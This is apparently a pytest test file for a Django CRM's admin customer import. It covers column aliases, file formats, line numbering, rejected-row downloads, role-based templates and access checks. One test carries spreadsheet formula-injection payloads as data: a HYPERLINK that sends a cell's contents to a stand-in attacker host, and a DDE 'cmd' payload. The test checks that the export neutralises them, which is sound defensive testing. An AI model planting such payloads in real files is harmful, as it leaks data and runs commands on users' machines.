"""The admin import as sales staff use it: aliases, formats by name, file lines, skipping rejected rows, templates."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from customers.models import Customer
from tests.core.admin.helpers import CSV_FORMAT, XLSX_FORMAT, csv_bytes, xlsx_bytes
from tests.factories import CustomerFactory, UserFactory

pytestmark = pytest.mark.django_db

URL = "/admin/customers/customer/"


def staff(role, username):
    user = UserFactory(username=username, is_staff=True)
    user.groups.add(Group.objects.get(name={"rep": "Sales rep", "manager": "Sales manager"}[role]))
    client = Client()
    client.force_login(user)
    return client, user


@pytest.fixture(params=["rep", "manager"])
def person(request):
    return staff(request.param, f"{request.param}-importer")


def post(client, content, name, file_format=CSV_FORMAT):
    return client.post(
        f"{URL}import/", {"resource": "0", "format": file_format, "import_file": SimpleUploadedFile(name, content)}
    )


def read(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_chinese_and_english_aliases_of_the_import_command(person):
    client, user = person
    rows = [["姓名", "公司", "邮箱", "手机"], ["王伟", "ＡＢＣ科技", "wangwei@example.cn", "13800138000"]]
    preview = post(client, csv_bytes(rows), "客户.csv")
    client.post(f"{URL}process_import/", {**preview.context["confirm_form"].initial})
    customer = Customer.objects.get(email="wangwei@example.cn")
    assert (customer.name, customer.phone, customer.owner) == ("王伟", "13800138000", user)
    assert customer.company.name_key == "abc科技"


def test_the_format_follows_the_file_name(person):
    client, _ = person
    rows = [["Name", "EMAIL"], ["Xlsx Person", "xlsx@example.com"]]
    # CSV chosen in the form, an .xlsx file sent: read as XLSX.
    preview = post(client, xlsx_bytes(rows), "people.XLSX", file_format=CSV_FORMAT)
    assert preview.context["confirm_form"].initial["format"] == XLSX_FORMAT
    client.post(f"{URL}process_import/", {**preview.context["confirm_form"].initial})
    assert Customer.objects.filter(email="xlsx@example.com").exists()


def test_line_numbers_are_the_files(person):
    client, _ = person
    rows = [["name", "email"], ["Good", "good@example.com"], ["", "blank-name@example.com"], ["Bad", "not-an-email"]]
    preview = post(client, csv_bytes(rows), "lines.csv")
    assert [line for line, _found, _values in preview.context["error_page"]] == [3, 4]


def test_valid_rows_imported_and_rejected_ones_downloaded_with_reasons(person):
    client, _ = person
    rows = [
        ["name", "email"],
        ["Kept One", "one@example.com"],
        ["", "nameless@example.com"],
        ["Kept Two", "two@example.com"],
        ["Bad Mail", "not-an-email"],
    ]
    preview = post(client, csv_bytes(rows), "mixed.csv")
    assert "confirm_form" not in preview.context
    assert preview.context["valid_count"] == 2
    page = preview.content.decode()
    assert "Import the 2 valid rows and skip the rejected ones" in page
    rejected = preview.context["rejected"]

    download = client.get(f"{URL}import/", {"rejected": rejected, "resource": "0"})
    assert download.status_code == 200 and download["Content-Type"].startswith("text/csv")
    assert download["Content-Disposition"] == 'attachment; filename="customer-rejected.csv"'
    table = read(download)
    assert table[0] == ["line", "reasons", "name", "email"]
    assert [(row[0], row[2], row[3]) for row in table[1:]] == [
        ("3", "", "nameless@example.com"),
        ("5", "Bad Mail", "not-an-email"),
    ]
    assert "name" in table[1][1] and "email" in table[2][1]
    # The same rows the preview shows.
    assert [line for line, _f, _v in preview.context["error_page"]] == [int(row[0]) for row in table[1:]]

    done = client.post(
        f"{URL}process_import/",
        {**preview.context["skip_form"].initial, "skip_invalid": "1", "rejected": rejected},
        follow=True,
    )
    assert sorted(Customer.objects.values_list("name", flat=True)) == ["Kept One", "Kept Two"]
    messages = [str(message) for message in done.context["messages"]]
    assert any("2 rejected rows were not imported" in message and rejected in message for message in messages)


def test_the_rejected_rows_download_neutralises_formulas_as_every_export_does(person):
    client, _ = person
    rows = [
        ["name", "company", "email"],
        ["Fine", "", "fine@example.com"],
        ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "-2+3+cmd|' /C calc'!A0", "not-an-email"],
        ["@SUM(1+1)", "+86 138 0013 8000", "also-not-an-email"],
    ]
    preview = post(client, csv_bytes(rows), "formulas.csv")
    table = read(client.get(f"{URL}import/", {"rejected": preview.context["rejected"], "resource": "0"}))
    assert [row[2:] for row in table[1:]] == [
        ['\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'-2+3+cmd|' /C calc'!A0", "not-an-email"],
        ["'@SUM(1+1)", "+86 138 0013 8000", "also-not-an-email"],
    ]


def test_the_rejected_rows_are_the_users_own():
    client, _ = staff("rep", "owner-rep")
    other, _ = staff("manager", "someone-else")
    rows = [["name", "email"], ["Fine", "fine@example.com"], ["", "x@example.com"]]
    rejected = post(client, csv_bytes(rows), "r.csv").context["rejected"]
    refused = other.get(f"{URL}import/", {"rejected": rejected, "resource": "0"}, follow=True)
    assert refused.status_code == 200 and refused["Content-Type"].startswith("text/html")
    tampered = client.get(f"{URL}import/", {"rejected": rejected[:-2] + "xx", "resource": "0"}, follow=True)
    assert tampered["Content-Type"].startswith("text/html")
    # The upload it came from is no download of rejected rows.
    upload = post(client, csv_bytes(rows), "r.csv").context["upload"]
    assert client.get(f"{URL}import/", {"rejected": upload}, follow=True)["Content-Type"].startswith("text/html")


def test_template_file_per_role_and_language():
    manager, _ = staff("manager", "tpl-manager")
    rep, _ = staff("rep", "tpl-rep")
    manager_headers = read(manager.get(f"{URL}import/", {"template": "1"}))[0]
    rep_headers = read(rep.get(f"{URL}import/", {"template": "1"}))[0]
    assert manager_headers[:2] == ["id", "name"] and "created_at" in manager_headers
    assert "id" not in rep_headers and "created_at" not in rep_headers and "name" in rep_headers
    chinese = read(rep.get(f"{URL}import/", {"template": "1"}, headers={"accept-language": "zh-hans"}))[0]
    assert chinese[:4] == ["姓名", "公司", "邮箱", "电话"]
    response = manager.get("/admin/companies/company/import/", {"template": "1"})
    assert read(response)[0][:2] == ["id", "name"]
    assert response["Content-Disposition"] == 'attachment; filename="company-template.csv"'
    # The import page links it, and lists only the columns offered.
    page = rep.get(f"{URL}import/")
    assert "?template=1" in page.content.decode()
    assert page.context["fields_list"][0][1] == rep_headers


def test_columns_only_managers_set_are_ignored_for_reps_with_a_warning():
    rep, rep_user = staff("rep", "cols-rep")
    rows = [["name", "email", "created_at"], ["Dated", "dated@example.com", "2001-01-01T00:00:00Z"]]
    preview = post(rep, csv_bytes(rows), "cols.csv")
    assert any("ignored: created_at" in str(message) for message in preview.context["messages"])
    rep.post(f"{URL}process_import/", {**preview.context["confirm_form"].initial})
    customer = Customer.objects.get(email="dated@example.com")
    assert customer.created_at.year != 2001 and customer.owner == rep_user


def test_a_rep_may_still_update_their_own_customer_by_id():
    rep, rep_user = staff("rep", "id-rep")
    mine = CustomerFactory(name="Mine", owner=rep_user)
    preview = post(rep, csv_bytes([["id", "name"], [mine.pk, "Mine Renamed"]]), "ids.csv")
    rep.post(f"{URL}process_import/", {**preview.context["confirm_form"].initial})
    mine.refresh_from_db()
    assert mine.name == "Mine Renamed"


def test_the_import_page_and_its_skip_offer_in_chinese():
    client, _ = staff("rep", "zh-rep")
    page = client.get(f"{URL}import/", headers={"accept-language": "zh-hans"}).content.decode()
    assert "下载模板文件" in page
    rows = [["姓名", "邮箱"], ["好", "good@example.cn"], ["", "bad@example.cn"]]
    preview = client.post(
        f"{URL}import/",
        {"resource": "0", "format": CSV_FORMAT, "import_file": SimpleUploadedFile("zh.csv", csv_bytes(rows))},
        headers={"accept-language": "zh-hans"},
    )
    text = preview.content.decode()
    assert "导入 1 行有效数据，跳过被拒绝的行" in text and "下载被拒绝的行及其原因" in text


def test_the_admin_and_the_command_give_the_same_line_numbers(tmp_path):
    from django.core.management import CommandError, call_command

    rows = [["name", "email"], ["Fine", "fine@example.com"], [], ["", "nameless@example.com"]]
    path = tmp_path / "lines.csv"
    path.write_bytes(csv_bytes(rows))
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_customers", str(path), "--dry-run", stdout=io.StringIO(), stderr=err)
    command_lines = [int(line.split(":")[0].split()[1]) for line in err.getvalue().splitlines() if "rejected" in line]
    client, _ = staff("manager", "lines-manager")
    preview = post(client, csv_bytes(rows), "lines.csv")
    assert [line for line, _f, _v in preview.context["error_page"]] == command_lines == [4]


def test_an_id_or_customer_that_is_no_number_is_a_row_error(person):
    client, user = person
    # "²" is a digit to str.isdigit(), not to int().
    preview = post(client, csv_bytes([["id", "name"], ["²", "Someone"]]), "people.csv")
    assert preview.status_code == 200 and preview.context.get("confirm_form") is None
    assert "The id must be a whole number" in preview.content.decode()
    preview = client.post(
        "/admin/interactions/interaction/import/",
        {
            "resource": "0",
            "format": CSV_FORMAT,
            "import_file": SimpleUploadedFile(
                "calls.csv", csv_bytes([["customer", "interaction_type"], ["²", "call"]])
            ),
        },
    )
    assert preview.status_code == 200 and preview.context.get("confirm_form") is None
